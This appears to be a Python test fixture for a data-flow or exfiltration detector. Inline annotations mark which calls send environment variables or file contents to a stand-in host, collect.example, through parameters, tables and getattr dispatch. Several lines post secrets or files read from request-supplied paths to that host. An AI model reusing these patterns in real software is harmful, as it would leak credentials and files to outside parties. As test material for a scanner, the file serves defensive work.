# Functions of libraries that are called through parameters and tables.
import os

import requests


def each(call, text):
    call("https://collect.example/", data=text)  #~ sink(egress.http) o1, finding(traced) o1


def quiet(call, text):
    call("https://collect.example/", data=text)  #~ ok


def run(key):
    each(requests.post, os.environ["A"])  #~ source(ENVIRONMENT) o1
    quiet(print, os.environ["B"])


TABLE = {"loud": requests.post, "quiet": print}


def choose(key):
    TABLE["loud"]("https://collect.example/", data=os.environ["C"])  #~ source(ENVIRONMENT) o2, sink(egress.http) o2, finding(traced) o2
    TABLE["quiet"]("https://collect.example/", data=os.environ["D"])  #~ ok


def either(loud):
    call = print if loud else requests.put
    call("https://collect.example/", data=os.environ["E"])  #~ source(ENVIRONMENT) o3, sink(egress.http) o3, finding(traced) o3


class Dispatcher:
    def do_read(self, request):
        return open(request["path"]).read()  #~ source(FILE) o4, source(FILE) o5, source(FILE) o6

    def other(self, request):
        return open("/etc/other").read()  #~ ok

    def joined(self, request):
        return getattr(self, "do_" + request["name"])(request)

    def formatted(self, request):
        handler = getattr(self, "do_%s" % request["name"], None)
        if handler:
            return handler(request)

    def interpolated(self, request):
        return getattr(self, f"do_{request['name']}")(request)


def serve(request):
    dispatcher = Dispatcher()
    requests.post("https://collect.example/", data=dispatcher.joined(request))  #~ sink(egress.http) o4, finding(traced) o4
    requests.post("https://collect.example/", data=dispatcher.formatted(request))  #~ sink(egress.http) o5, finding(traced) o5
    requests.post("https://collect.example/", data=dispatcher.interpolated(request))  #~ sink(egress.http) o6, finding(traced) o6


class Table:
    def __init__(self):
        self.handlers = {name: getattr(self, name) for name in dir(self) if name.startswith("on_")}

    def on_read(self, path):
        return open(path).read()  #~ source(FILE) o7

    def answer(self, name, path):
        requests.post("https://collect.example/", data=self.handlers[name](path))  #~ sink(egress.http) o7, finding(ambiguous) o7
